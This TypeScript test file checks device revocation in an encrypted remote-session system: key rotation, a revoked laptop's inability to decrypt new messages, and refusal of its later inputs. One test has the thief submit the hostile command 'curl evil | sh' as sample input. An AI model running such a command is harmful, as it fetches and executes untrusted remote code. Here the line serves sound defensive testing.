import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DeviceRegistry } from './device-registry.js';
import { openEnvelope } from './open-envelope.js';
import { revokeDevice } from './rotation.js';
import { sealEnvelope } from './seal-envelope.js';
import { unwrapSessionKey } from './key-wrap.js';
import { deliver, introduce, newParty, sessionWith, type SealParty } from './testing/seal-party.js';
import { refusedWith } from './testing/refused-with.js';
import { verifyEnvelope } from './verify-envelope.js';

const S1 = 's_aaaaaaaaaaaaaaaaaaaa';
const S2 = 's_bbbbbbbbbbbbbbbbbbbb';
const text = (s: string): Uint8Array => new TextEncoder().encode(s);
const read = (b: Uint8Array): string => new TextDecoder().decode(b);

const sealAs = (
  author: SealParty,
  session: string,
  kind: 'event' | 'input',
  id: string,
  counter: number,
  body: string,
) =>
  sealEnvelope({
    identity: author.identity,
    sessionKey: author.ring.current(session)!,
    kind,
    id,
    counter,
    plaintext: text(body),
  });

const openAs = (
  reader: SealParty,
  envelope: unknown,
  kind: 'event' | 'input',
  id: string,
  requireCurrentEpoch = false,
) =>
  openEnvelope(
    envelope,
    { session: S1, kind, id },
    {
      registry: reader.registry,
      keyRing: reader.ring,
      counters: reader.counters,
      requireCurrentEpoch,
    },
  );

async function revokedWorld() {
  const host = await newParty('d_host');
  const phone = await newParty('d_phone');
  const stolen = await newParty('d_stolen');
  introduce([host, phone, stolen]);
  await sessionWith(S1, host, [phone, stolen]);
  await sessionWith(S2, host, [phone, stolen]);
  // Before the theft: the stolen laptop sent two inputs the host accepted, and read an event.
  const before1 = await sealAs(stolen, S1, 'input', 'in-1', 1, 'ls');
  const before2 = await sealAs(stolen, S1, 'input', 'in-2', 2, 'pwd');
  await openAs(host, before1, 'input', 'in-1');
  await openAs(host, before2, 'input', 'in-2');
  const oldEvent = await sealAs(host, S1, 'event', 'e1', 1, 'before the rotation');
  assert.equal(
    read((await openAs(stolen, oldEvent, 'event', 'e1')).plaintext),
    'before the rotation',
  );

  const result = await revokeDevice({
    host: host.identity,
    registry: host.registry,
    ring: host.ring,
    counters: host.counters,
    deviceId: 'd_stolen',
  });
  // The revocation reaches the phone (and the relay) with its cut-offs; the new keys reach the phone.
  phone.registry.revoke('d_stolen', result.revocation);
  await deliver(host, result.wrapped, [phone]);
  return { host, phone, stolen, result, before1, before2, oldEvent };
}

test('revoking a device rotates every session key, wrapped only to the remaining devices', async () => {
  const { host, phone, result } = await revokedWorld();
  assert.deepEqual(result.revocation.cutoffs, { [S1]: 2 });
  assert.deepEqual(result.rotated.map((k) => [k.sessionId, k.epoch]).sort(), [
    [S1, 2],
    [S2, 2],
  ]);
  assert.deepEqual(
    result.wrapped.map((w) => w.recipient),
    ['d_phone', 'd_phone'],
  );
  assert.deepEqual(host.ring.epochs(S1), [1, 2]);
  assert.deepEqual(phone.ring.epochs(S1), [1, 2]);
  // Sealing now uses epoch 2, and the phone opens it.
  const after = await sealAs(host, S1, 'event', 'e2', 2, 'after the rotation');
  assert.equal(after.keyEpoch, 2);
  assert.equal(read((await openAs(phone, after, 'event', 'e2')).plaintext), 'after the rotation');
});

test('the revoked device cannot unwrap the rotated key or open anything sealed after it', async () => {
  const { host, stolen, result } = await revokedWorld();
  // No wrap is addressed to it; taking the phone's wrap fails: it is bound to the phone.
  const phoneWrap = result.wrapped.find((w) => w.session === S1)!;
  const options = { registry: stolen.registry, expectedWrapper: 'd_host' };
  await assert.rejects(
    unwrapSessionKey(stolen.identity, phoneWrap, options),
    refusedWith('context_mismatch'),
  );
  // Re-addressing it to itself breaks the host's signature over the recipient.
  await assert.rejects(
    unwrapSessionKey(stolen.identity, { ...phoneWrap, recipient: 'd_stolen' }, options),
    refusedWith('bad_signature'),
  );
  const after = await sealAs(host, S1, 'event', 'e2', 2, 'MARKER-after-revocation');
  await assert.rejects(openAs(stolen, after, 'event', 'e2'), refusedWith('no_key'));
  // Even with the signature check skipped, no key it holds opens the new epoch.
  const oldKey = stolen.ring.get(S1, 1)!;
  const { fromBase64url } = await import('./base64url.js');
  const { envelopeAad } = await import('./envelope-format.js');
  await assert.rejects(
    globalThis.crypto.subtle.decrypt(
      {
        name: 'AES-GCM',
        iv: fromBase64url(after.nonce)!,
        additionalData: envelopeAad({ ...after, keyEpoch: 2 }),
      },
      oldKey.key,
      fromBase64url(after.ciphertext)!,
    ),
  );
});

test("a revoked device's new envelopes are refused; what it sealed before stays history", async () => {
  const { host, phone, stolen, before1, before2 } = await revokedWorld();
  // The thief keeps sealing under the epoch it still holds.
  const afterRevocation = await sealAs(stolen, S1, 'input', 'in-3', 3, 'curl evil | sh');
  const relay = new DeviceRegistry();
  for (const p of [host, phone, stolen]) relay.add(p.identity.publicKeys);
  relay.revoke('d_stolen', { cutoffs: { [S1]: 2 } });
  await assert.rejects(
    verifyEnvelope(
      afterRevocation,
      { session: S1, kind: 'input', id: 'in-3', author: 'd_stolen' },
      relay,
    ),
    refusedWith('revoked_device'),
  );
  await assert.rejects(
    openAs(host, afterRevocation, 'input', 'in-3'),
    refusedWith('revoked_device'),
  );
  await assert.rejects(
    openAs(phone, afterRevocation, 'input', 'in-3'),
    refusedWith('revoked_device'),
  );
  // In a session where it never wrote, nothing from it counts.
  const inS2 = await sealAs(stolen, S2, 'input', 'x', 1, 'x');
  await assert.rejects(
    verifyEnvelope(inS2, { session: S2, kind: 'input', id: 'x' }, relay),
    refusedWith('revoked_device'),
  );
  // Its inputs from before the revocation still verify and open for a reader of the history.
  await verifyEnvelope(before1, { session: S1, kind: 'input', id: 'in-1' }, relay);
  assert.equal(read((await openAs(phone, before1, 'input', 'in-1')).plaintext), 'ls');
  assert.equal(read((await openAs(phone, before2, 'input', 'in-2')).plaintext), 'pwd');
});

test('after a rotation the host refuses new inputs sealed under the old epoch', async () => {
  const { host, phone } = await revokedWorld();
  const stale = await sealEnvelope({
    identity: phone.identity,
    sessionKey: phone.ring.get(S1, 1)!,
    kind: 'input',
    id: 'late',
    counter: 1,
    plaintext: text('typed before the new key arrived'),
  });
  await assert.rejects(openAs(host, stale, 'input', 'late', true), refusedWith('stale_epoch'));
  // Re-sealed under the current epoch (a new counter), it is accepted.
  const fresh = await sealAs(phone, S1, 'input', 'late', 2, 'typed before the new key arrived');
  assert.equal((await openAs(host, fresh, 'input', 'late', true)).envelope.keyEpoch, 2);
});
